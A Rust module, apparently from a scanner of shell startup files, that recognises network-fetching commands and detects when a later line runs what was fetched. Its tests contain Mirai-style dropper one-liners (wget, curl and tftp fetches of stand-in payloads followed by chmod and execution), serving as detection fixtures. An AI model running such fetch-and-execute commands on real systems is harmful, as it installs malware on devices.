//! Programs that fetch, what they write where, and what a startup file runs of it later.

use super::place::place;
use super::shell::{Commands, Role};
use super::text::{Bytes, basename};
use crate::limits::{FETCHED, FETCHED_BYTES};

/// Where a fetching command puts what it fetched.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Fetch<'a> {
    /// To its output, where a pipe takes it.
    Output,
    /// To a file of this name.
    File(&'a [u8]),
}

/// What a command fetches from the network, if it does.
#[must_use]
pub fn fetch(commands: &Commands, command: u16) -> Option<Fetch<'_>> {
    let arguments = || commands.program(command).skip(1);
    let fetched = match commands.name(command) {
        b"wget" | b"uclient-fetch" => match option(arguments(), b'O', b"--output-document") {
            Some(b"-") => Fetch::Output,
            Some(file) => Fetch::File(file),
            None => Fetch::File(remote_name(arguments())?),
        },
        b"curl" => match option(arguments(), b'o', b"--output") {
            Some(b"-") => Fetch::Output,
            Some(file) => Fetch::File(file),
            None if has_flag(arguments(), b'O', b"--remote-name") => Fetch::File(remote_name(arguments())?),
            None => Fetch::Output,
        },
        b"tftp" => match option(arguments(), b'l', b"--local") {
            Some(b"-") => Fetch::Output,
            Some(file) => Fetch::File(file),
            None => Fetch::File(option(arguments(), b'r', b"--remote").or_else(|| arguments().last())?),
        },
        // ftpget HOST LOCAL REMOTE, or HOST REMOTE (BusyBox, networking/ftpgetput.c).
        b"ftpget" => {
            let (mut local, mut remote) = (&b""[..], &b""[..]);
            for word in arguments() {
                local = core::mem::replace(&mut remote, word);
            }
            Fetch::File(if host_like(local) { remote } else { local })
        }
        b"nc" | b"ncat" | b"netcat" | b"socat" | b"lynx" | b"fetch" | b"ssl_client" => Fetch::Output,
        _ => return None,
    };
    match (fetched, commands.words(command, Role::Output).next()) {
        (Fetch::Output, Some(file)) => Some(Fetch::File(file)),
        _ => Some(fetched),
    }
}

/// Nothing, or digits and dots only: the host of `ftpget`, not a file.
fn host_like(word: &[u8]) -> bool {
    word.iter().all(|b| b.is_ascii_digit() || *b == b'.')
}

/// The value of a short option, alone, in a cluster (`-qO-`) or as `--long=value`.
fn option<'a>(mut words: impl Iterator<Item = &'a [u8]>, short: u8, long: &[u8]) -> Option<&'a [u8]> {
    while let Some(word) = words.next() {
        if let Some(rest) = word.strip_prefix(long) {
            match rest.first() {
                Some(b'=') => return rest.get(1..),
                None => return words.next(),
                _ => {}
            }
        } else if is_cluster(word)
            && let Some(at) = word.iter().position(|b| *b == short)
        {
            let value = word.get(at.saturating_add(1)..).unwrap_or_default();
            return if value.is_empty() { words.next() } else { Some(value) };
        }
    }
    None
}

fn has_flag<'a>(mut words: impl Iterator<Item = &'a [u8]>, short: u8, long: &[u8]) -> bool {
    words.any(|word| word == long || (is_cluster(word) && word.contains(&short)))
}

/// `-abc`: one dash, then letters.
fn is_cluster(word: &[u8]) -> bool {
    word.first() == Some(&b'-') && word.get(1).is_some_and(u8::is_ascii_alphabetic)
}

/// The file name that a URL gives: what follows the last slash, without a query.
fn remote_name<'a>(words: impl Iterator<Item = &'a [u8]>) -> Option<&'a [u8]> {
    let url = words.filter(|word| word.first() != Some(&b'-')).last()?;
    let name = basename(url).split(|b| *b == b'?').next()?;
    Some(if name.is_empty() { b"index.html" } else { name })
}

/// The words of a command that name code it runs: the program and those that start it, the script of a shell,
/// what `start-stop-daemon`, procd and `insmod` are told to start, and `LD_PRELOAD`.
pub fn executed<'a>(commands: &'a Commands, command: u16, each: &mut dyn FnMut(&'a [u8])) {
    let length = commands.program(command).count();
    let all = || commands.words(command, Role::Argument);
    for word in all().take(all().count().saturating_sub(length)) {
        match word.strip_prefix(b"LD_PRELOAD=") {
            Some(library) => each(library),
            None if word.contains(&b'/') && !word.contains(&b'=') => each(word),
            None => {}
        }
    }
    let mut words = commands.program(command);
    let Some(program) = words.next() else { return };
    each(program);
    match basename(program) {
        b"start-stop-daemon" => {
            for long in [&b"--exec"[..], b"--startas"] {
                let short = if long == b"--exec" { b'x' } else { b'a' };
                if let Some(word) = option(commands.program(command).skip(1), short, long) {
                    each(word);
                }
            }
        }
        b"procd_set_param" if words.next() == Some(b"command") => words.next().into_iter().for_each(each),
        b"insmod" | b"service_start" | b"daemon" => words.next().into_iter().for_each(each),
        _ if commands.is_shell(command)
            && !has_flag(commands.program(command).skip(1), b'c', b"--command") =>
        {
            words.find(|word| word.first() != Some(&b'-')).into_iter().for_each(each);
        }
        _ => {}
    }
}

/// What earlier lines of one startup file have fetched and where they have gone.
#[derive(Clone, Debug, Default)]
pub struct Memory {
    fetched: heapless::Vec<(Bytes<FETCHED_BYTES>, u32), FETCHED>,
    directory: Bytes<FETCHED_BYTES>,
    runs: Option<Run>,
    from_directory: Option<u16>,
    full: bool,
}

/// Of a file of which nothing was read.
pub static NOTHING: Memory = Memory::new();

/// A command that runs what was fetched.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Run {
    /// The command in its line.
    pub command: u16,
    /// The line that fetched it.
    pub fetched_at: u32,
}

impl Memory {
    /// Of a file of which nothing was read.
    #[must_use]
    pub const fn new() -> Self {
        Self {
            fetched: heapless::Vec::new(),
            directory: Bytes::new(),
            runs: None,
            from_directory: None,
            full: false,
        }
    }

    /// The first command of the last line learnt that runs what this file fetched.
    #[must_use]
    pub const fn runs(&self) -> Option<Run> {
        self.runs
    }

    /// The first command of the last line learnt that runs something by a name relative to an odd place.
    #[must_use]
    pub const fn runs_from_odd_directory(&self) -> Option<u16> {
        self.from_directory
    }

    /// The directory that the file has changed to, where it is known.
    #[must_use]
    pub fn directory(&self) -> &[u8] {
        self.directory.as_slice()
    }

    /// Whether more was fetched than is remembered.
    #[must_use]
    pub const fn is_full(&self) -> bool {
        self.full
    }

    /// Learns from the commands of one line, in their order.
    pub(super) fn learn(&mut self, commands: &Commands, line: u32) {
        self.runs = None;
        self.from_directory = None;
        for (index, _) in commands.iter() {
            let (mut run, mut relative) = (None, false);
            let is_shell = commands.is_shell(index);
            executed(commands, index, &mut |word| {
                let named = word.contains(&b'/') || word.first() == Some(&b'$') || is_shell;
                run = run.or_else(|| self.line_that_fetched(word).filter(|_| named));
                relative |= word.starts_with(b"./");
            });
            if let Some(fetched_at) = run {
                self.runs = self.runs.or(Some(Run { command: index, fetched_at }));
            }
            if relative && place(self.directory.as_slice()).is_odd() {
                self.from_directory = self.from_directory.or(Some(index));
            }
            self.note(commands, index, line);
        }
    }

    fn note(&mut self, commands: &Commands, index: u16, line: u32) {
        let mut arguments = commands.program(index).skip(1).filter(|word| word.first() != Some(&b'-'));
        match commands.name(index) {
            b"cd" => {
                self.directory =
                    Bytes::of(arguments.next().filter(|dir| dir.first() == Some(&b'/')).unwrap_or_default());
            }
            b"mv" | b"cp" => {
                if let (Some(from), Some(to)) = (arguments.next(), arguments.next())
                    && let Some(fetched_at) = self.line_that_fetched(from)
                {
                    self.remember(to, fetched_at);
                }
            }
            _ => {}
        }
        if let Some(Fetch::File(file)) = fetch(commands, index) {
            self.remember(file, line);
        }
        let fed = commands.feeders(index).any(|from| fetch(commands, from) == Some(Fetch::Output));
        if let Some(file) = commands.words(index, Role::Output).next().filter(|_| fed) {
            self.remember(file, line);
        }
    }

    fn remember(&mut self, file: &[u8], line: u32) {
        if file == b"/dev/null" || self.line_that_fetched(file).is_some() {
            return;
        }
        let name = Bytes::of(file);
        if name.is_cut() || self.fetched.push((name, line)).is_err() {
            self.full = true;
        }
    }

    /// The line that fetched a file of this name. Two absolute paths must be equal; otherwise the directory is
    /// not known and the last component decides.
    fn line_that_fetched(&self, file: &[u8]) -> Option<u32> {
        let absolute = |path: &[u8]| path.first() == Some(&b'/');
        let same = |kept: &[u8]| {
            if absolute(kept) && absolute(file) { kept == file } else { basename(kept) == basename(file) }
        };
        let is_name = !basename(file).is_empty();
        self.fetched.iter().find(|(kept, _)| is_name && same(kept.as_slice())).map(|(_, line)| *line)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fetchers_and_where_they_write() {
        for (text, expected) in [
            (&b"wget http://h/bins.sh"[..], Some(Fetch::File(b"bins.sh"))),
            (b"wget -q -O - http://h/x", Some(Fetch::Output)),
            (b"busybox wget http://h/x -qO-", Some(Fetch::Output)),
            (b"wget -O/tmp/x http://h/y", Some(Fetch::File(b"/tmp/x"))),
            (b"wget --output-document=/tmp/x http://h/y", Some(Fetch::File(b"/tmp/x"))),
            (b"curl -fsSL http://h/x", Some(Fetch::Output)),
            (b"curl -fsSLo /tmp/x http://h/x", Some(Fetch::File(b"/tmp/x"))),
            (b"curl -O http://h/x?y=1", Some(Fetch::File(b"x"))),
            (b"curl http://h/x > $F", Some(Fetch::File(b"$F"))),
            (b"tftp -g -l dvrHelper -r mirai.mips 192.0.2.1", Some(Fetch::File(b"dvrHelper"))),
            (b"tftp 192.0.2.1 -c get x", Some(Fetch::File(b"x"))),
            (b"ftpget -v -u a -p b -P 21 192.0.2.1 local.sh remote.sh", Some(Fetch::File(b"local.sh"))),
            (b"ftpget 192.0.2.1 remote.sh", Some(Fetch::File(b"remote.sh"))),
            (b"sh x", None),
        ] {
            let mut commands = Commands::new();
            commands.parse(text);
            assert_eq!(fetch(&commands, 0), expected, "{}", String::from_utf8_lossy(text));
        }
    }

    fn runs(text: &[u8]) -> Option<u32> {
        let (mut commands, mut memory) = (Commands::new(), Memory::new());
        (1_u32..).zip(text.split(|b| *b == b'\n')).find_map(|(number, line)| {
            commands.parse(line);
            memory.learn(&commands, number);
            memory.runs().map(|run| run.fetched_at)
        })
    }

    #[test]
    fn what_was_fetched_and_is_run_later() {
        for text in [
            &b"wget http://h/bins.sh; chmod 777 bins.sh; sh bins.sh"[..],
            b"cd /tmp\ntftp -g -l d -r m.mips 192.0.2.1\n./d",
            b"curl -o /tmp/x http://h/y && chmod +x /tmp/x && /tmp/x &",
            b"wget -O \"$F\" http://h/x\nchmod +x $F\n${F}",
            b"wget http://h/a; mv a /etc/b\n. /etc/b",
            b"curl http://h/x | gunzip > /tmp/y; nohup /tmp/y",
            b"wget http://h/x -O /tmp/x\nstart-stop-daemon -S -b -x /tmp/x",
        ] {
            assert!(runs(text).is_some(), "{}", String::from_utf8_lossy(text));
        }
    }

    #[test]
    fn what_is_only_saved_is_not_run() {
        for text in [
            &b"wget -O /tmp/fw.bin http://h/fw.bin; sysupgrade /tmp/fw.bin"[..],
            b"curl -o $TMP http://h/list; sort $TMP > /tmp/list; mv /tmp/list /etc/list",
            b"wget -qO- http://h/ip | grep x > /tmp/ip; read IP < /tmp/ip",
            b"sh x; wget http://h/x",
            b"wget http://h/sysupgrade; sysupgrade",
        ] {
            assert_eq!(runs(text), None, "{}", String::from_utf8_lossy(text));
        }
    }
}
